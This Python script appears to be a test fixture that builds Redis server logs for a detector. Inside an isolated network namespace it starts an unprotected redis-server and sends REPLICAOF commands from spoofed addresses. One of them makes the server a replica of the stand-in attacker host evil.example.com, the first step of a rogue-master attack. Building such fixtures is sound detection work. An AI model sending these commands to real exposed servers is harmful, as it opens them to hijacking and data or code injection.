"""A stranger makes an open Redis a replica of a host with a public address.

It runs in a network namespace of its own, made by `unshare` as root: loopback has a private and two public addresses (of the nets
kept for documentation) there. An attacker with a public address sends REPLICAOF, the master loads nothing; then one inside
Docker's network names a public master, and an administrator a private one. The log is the server's.

Packages: python
Leaves: redis.rogue-replicaof 2, redis.rogue-replicaof-own 1
"""

import os
import socket
import subprocess
import sys
import time

ADDRESSES = ("203.0.113.7", "198.51.100.4", "172.17.0.2", "172.17.0.1")
if sys.argv[1:] != ["inside"]:
    setup = " && ".join(["ip link set lo up", *[f"ip address add {one}/32 dev lo" for one in ADDRESSES]])
    command = f'{setup} && exec "$0" "$@"'
    os.execvp("unshare", ["unshare", "--net", "sh", "-c", command, sys.executable, __file__, "inside"])


def tell(source, *words):
    with socket.socket() as client:
        client.bind((source, 0))
        client.connect(("172.17.0.2", 6379))
        client.sendall(" ".join(words).encode() + b"\r\n")
        client.recv(1000)
    time.sleep(1.5)


server = subprocess.Popen(["redis-server", "--bind", "0.0.0.0", "--protected-mode", "no", "--save", ""])
time.sleep(1)
tell("198.51.100.4", "REPLICAOF", "evil.example.com", "8886")
tell("198.51.100.4", "REPLICAOF", "NO", "ONE")
tell("172.17.0.1", "REPLICAOF", "203.0.113.7", "8886")
tell("172.17.0.1", "REPLICAOF", "172.17.0.9", "6379")
server.terminate()
server.wait(20)
